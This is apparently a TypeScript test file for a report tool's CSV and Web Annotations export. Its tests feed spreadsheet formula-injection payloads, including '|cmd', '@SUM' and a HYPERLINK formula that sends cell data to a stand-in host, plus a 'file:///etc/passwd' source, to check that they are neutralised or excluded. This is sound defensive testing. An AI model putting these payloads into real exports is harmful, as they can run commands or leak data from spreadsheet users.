import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell } from '@/utils/report/csv-cell';
import { writeAnnotations } from '@/utils/report/write-annotations';
import { writeCitationsCsv } from '@/utils/report/write-csv';
import { readCsv } from './read-csv';
import { ReportFixture } from './report-fixture';

function report() {
  const made = new ReportFixture();
  const page = made.source('A "title", with marks', 'https://e.example/?a=1,2', {
    authors: ['Ann Field', '=cmd()'],
  });
  const a = made.clip(page, 'said\nthis', { start: 'said' });
  const b = made.clip(page, 'and that');
  made.section('Part, one').statement(['It was said ', { cite: a }, { cite: a }, ' and so on.']);
  return made.place(b, { note: 'Ask again.', tags: ['water', 'x y'] });
}

/**
 * Returns the cells of a row as a spreadsheet with the separator `;` splits it: a field is quoted
 * if it starts with a quotation mark, and the letters after a closed quotation are plain up to the
 * next `;`.
 */
function cellsOfSemicolons(row: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < row.length; at += 1) {
    const char = row.charAt(at);
    if (isQuoted) {
      if (char !== '"') cell += char;
      else if (row[at + 1] === '"') {
        cell += char;
        at += 1;
      } else isQuoted = false;
    } else if (char === '"' && cell === '') isQuoted = true;
    else if (/[;\t\r\n]/u.test(char)) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  return [...cells, cell];
}

describe('CSV', () => {
  test('has a line for each citation, in reading order, and for what no statement cites', () => {
    const [header, ...rows] = readCsv(writeCitationsCsv(report().build()));
    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
    expect(column('number')).toEqual(['1', '2', '3']);
    expect(column('section')).toEqual(Array(3).fill('Part, one'));
    expect(column('statement')).toEqual(['It was said', 'It was said', '']);
    expect(column('label')).toEqual(Array(3).fill('A "title", with marks'));
    expect(column('quote')).toEqual(['said\nthis', 'said\nthis', 'and that']);
    expect(column('url')[0]).toBe('https://e.example/?a=1,2#:~:text=said');
    expect(column('note')).toEqual(['', '', 'Ask again.']);
    expect(column('tags')).toEqual(['', '', 'water; x y']);
    expect(header?.slice(-3)).toEqual(['note', 'tags', 'footnote']);
    expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([header!.length]));
  });

  test('the words of a citation do not begin with the end of the sentence before', () => {
    const made = new ReportFixture();
    const page = made.source('Bulletin', 'https://e.example/');
    const [a, b, c] = [made.clip(page, 'one'), made.clip(page, 'two'), made.clip(page, 'three')];
    const words = [
      'It rose ',
      { cite: a },
      '. It fell ',
      { cite: b },
      '\u202f; puis ',
      { cite: c },
    ];
    made.statement([...words, '.', { cite: a }, ' .5 m', { cite: b }]);
    const [header, ...rows] = readCsv(writeCitationsCsv(made.build()));
    expect(rows.map((row) => row[header!.indexOf('statement')])).toEqual([
      'It rose',
      'It fell',
      'puis',
      'puis',
      '.5 m',
    ]);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1',
    '\t=1',
    '\r=1',
    '|cmd',
    '%x',
    '\u0000=1',
    '＝1',
  ])('a cell of %j is no formula', (value) => expect(csvCell(value)).toMatch(/^"'/u));

  /*
   * A spreadsheet with a decimal comma splits a row at `;`. A field that starts after a comma is
   * then not quoted, and `;` or a line break in this field is not safe.
   */
  test.each([
    'see; =1+1',
    'see;=HYPERLINK("https://a.example/?"&A1)',
    'see ;\t+1',
    'see;"=1',
    'see; -1',
    'see;@SUM(A1)',
    'see;\u00A0＝1',
    'first\n=1+1',
    'first\r\n@SUM(A1)',
    'a;b;|cmd',
    'see;;=1',
    'see;\n"" =1',
  ])('no cell of a row with %j is a formula for a spreadsheet that splits at ;', (value) => {
    const row = ['1', value, 'x'].map(csvCell).join(',');
    const cells = cellsOfSemicolons(row);
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠|%]/u.test(cell))).toEqual([]);
  });

  test.each([
    'a=1',
    'Ann Field; Bo Hill',
    'a; b\nc',
    '1-2',
    'https://e.example/',
    '«\u00A0x\u00A0»',
    '',
  ])('does not change %j', (value) => {
    expect(csvCell(value)).toBe(`"${value}"`);
  });

  test('restores the input', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1 }), (cells) => {
        const read = readCsv(`${cells.map(csvCell).join(',')}\r\n`)[0]!;
        const plain = (text: string) =>
          text
            .toWellFormed()
            .replace(/[\p{Cc}\u2028\u2029]/gu, '')
            .replace(/\s/gu, '')
            .replaceAll("'", '');
        expect(read.map(plain)).toEqual(cells.map(plain));
      }),
      { numRuns: 300 },
    );
  });
});

describe('Web Annotations', () => {
  test('name the page, the selectors of the passage and its note', () => {
    const made = report();
    made.pins[1] = {
      ...made.pins[1]!,
      selectors: {
        quote: { exact: 'and that', prefix: 'this ', suffix: '' },
        position: { start: 10, end: 18 },
      },
      directive: { prefix: 'this', start: 'and', end: 'that' },
    };
    const page = JSON.parse(writeAnnotations(made.build()));
    expect(page).toMatchObject({
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      type: 'AnnotationPage',
    });
    // The other one is in the inbox, after it.
    expect(page.items).toHaveLength(2);
    expect(page.items[0]).toEqual({
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      id: `urn:uuid:${made.clips[1]!.id}`,
      type: 'Annotation',
      created: '2025-03-01T10:00:00.000Z',
      motivation: 'commenting',
      body: [
        { type: 'TextualBody', value: 'Ask again.', format: 'text/plain', purpose: 'commenting' },
        { type: 'TextualBody', value: 'water', purpose: 'tagging' },
        { type: 'TextualBody', value: 'x y', purpose: 'tagging' },
      ],
      target: {
        type: 'SpecificResource',
        source: { id: 'https://e.example/?a=1,2', type: 'Text', label: 'A "title", with marks' },
        selector: [
          { type: 'TextQuoteSelector', exact: 'and that', prefix: 'this ' },
          { type: 'TextPositionSelector', start: 10, end: 18 },
          {
            type: 'FragmentSelector',
            conformsTo: 'https://wicg.github.io/scroll-to-text-fragment/',
            value: ':~:text=this-,and,that',
          },
        ],
      },
    });
  });

  test('leave out pages that no link may lead to, and nothing is left hanging', () => {
    const made = new ReportFixture().section('S');
    made.place(made.clip(made.source('T', 'file:///etc/passwd'), 'q'));
    expect(JSON.parse(writeAnnotations(made.build())).items).toEqual([]);
  });
});
